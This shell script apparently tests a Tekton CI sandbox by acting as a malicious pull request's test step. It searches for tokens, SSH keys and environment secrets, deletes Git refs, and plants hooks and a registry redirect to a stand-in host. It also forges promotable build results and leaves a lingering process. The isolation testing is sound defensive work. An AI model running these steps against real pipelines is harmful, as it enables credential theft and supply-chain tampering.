#!/bin/sh
# A pull request's tests, as an attacker writes them.
# shellcheck disable=SC1091,SC2012
exec 2>/dev/null
. ./lib.sh
writable() { # writable FOLDER...: those in which a file can be made
    for folder in "$@"; do
        (: >"$folder/.probe") && rm -f "$folder/.probe" && echo "$folder"
    done
}
secret_files() {
    find / \( -path /proc -o -path /sys \) -prune -o \
        \( -name token -o -name ssh-privatekey -o -name .dockerconfigjson -o -name cosign.key -o -path '/credentials/*' \) -print
}

# What the repository itself would have had run: names of branch and files, subject, hooks, filters, submodules, links.
find / \( -path /proc -o -path /sys \) -prune -o -name PWNED -print | probe executed
: >/test/PWNED
find / \( -path /proc -o -path /sys \) -prune -o -name PWNED -print | control executed
rm /test/PWNED
{ cat stolen stolen-result; ls stolen-folder/; } | probe links
cat linked.txt | control links

# Credentials and tokens
secret_files | probe secret-files
: >/test/token
secret_files | control secret-files
rm /test/token
ls -A /tekton/creds /tekton/creds-secrets /var/run/secrets | probe tekton-creds
ls -A /tekton | control tekton-creds
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep -i -E 'passw|token|secret|credential' | probe environments
cat /proc/[0-9]*/environ | tr '\0' '\n' | grep PARAM_TEST_COMMAND | head -1 | control environments
commands | grep -o -E '[b]uildkit|[b]uildctl|[k]ubelet|[s]shd|[e]tcd|[f]etch.sh' | sort -u | probe processes
commands | grep -o 'test[.]sh' | sort -u | control processes

# The tree that the image is built from, other steps' files, Tekton's own
{ echo 'Changed by the tests' >"$SOURCE/message.txt" && echo changed; rm -rf "$SOURCE/.git/refs" && echo removed; } | probe source
echo 'Changed by the tests' >/test/message.txt && cat /test/message.txt | control source
writable /source "$SOURCE" "$SOURCE/.git" /storage /tekton/bin /tekton/scripts /tekton/steps /tekton/run/0 /tekton/run/2 \
    /tekton/downward /etc /usr/local/bin | probe writable
for file in "$SOURCE"/* /tekton/scripts/* /tekton/bin/* /etc/hosts /etc/resolv.conf /etc/passwd; do
    (: >>"$file") && echo "$file"
done | probe writable
writable /test | control writable

# What later steps of this pod would read if they looked there
for home in /tekton/home /workspace "$HOME"; do
    mkdir -p "$home/.docker" "$home/.config/containers" "$home/.ssh"
    echo '{"auths": {}, "credHelpers": {"quarantine.internal:5001": "evil"}}' >"$home/.docker/config.json"
    printf '[[registry]]\nprefix = "quarantine.internal:5001"\nlocation = "stolen.example.org"\ninsecure = true\n' \
        >"$home/.config/containers/registries.conf"
    printf '[core]\n\tsshCommand = touch /tmp/PWNED\n\thooksPath = /workspace/hooks\n' >"$home/.gitconfig"
    printf 'Host *\n\tProxyCommand touch /tmp/PWNED\n' >"$home/.ssh/config"
done
cat /tekton/home/.config/containers/registries.conf | control planted

# Forged results, by both ways in which a step gives them
digest=sha256:$(printf %064d 0)
printf '%s' "$digest" >/tekton/results/digest
printf 'yes' >/tekton/results/promotable
printf 'all is well, says the attacker' >/tekton/results/reason
jq --null-input --arg digest "$digest" '{digest: $digest, promotable: "yes", reason: "all is well, says the attacker"}
    | to_entries | map(. + {type: 1})' >/tekton/termination
cat /tekton/results/* | control results

# Something that goes on after the tests have ended
setsid sh -c 'trap "" TERM HUP INT; exec sleep 31337' >/dev/null </dev/null &
sleep 0.2
commands | grep -o '[s]leep 31337' | control background
exit 0
